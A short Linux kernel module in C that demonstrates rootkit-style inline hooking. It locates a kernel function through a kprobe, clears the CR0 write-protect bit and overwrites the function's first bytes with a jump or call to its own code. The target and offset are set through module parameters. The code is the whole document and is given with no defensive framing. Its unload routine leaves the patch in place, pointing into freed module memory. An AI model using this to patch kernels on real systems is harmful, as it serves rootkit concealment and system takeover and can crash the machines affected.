// SPDX-License-Identifier: MIT
/* An inline hook as rootkits lay it: e9, or e8, over a function's code, past write protection. */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <asm/special_insns.h>

static char *name = "version_proc_show";
static int at, call;
module_param(name, charp, 0);
module_param(at, int, 0);
module_param(call, int, 0);

static noinline int hooked(void)
{
	return 0;
}

static int __init start(void)
{
	struct kprobe probe = { .symbol_name = name };
	unsigned char *to, code[5] = { call ? 0xe8 : 0xe9 };
	unsigned long cr0;

	if (register_kprobe(&probe)) /* which finds the function */
		return -EINVAL;
	to = (unsigned char *)probe.addr + at;
	unregister_kprobe(&probe);
	*(int *)(code + 1) = (long)hooked - (long)to - 5;
	local_irq_disable();
	cr0 = read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000ul) : "memory"); /* CR0.WP */
	memcpy(to, code, 5);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_enable();
	return 0;
}

static void __exit stop(void)
{
}

module_init(start);
module_exit(stop);
MODULE_LICENSE("GPL");
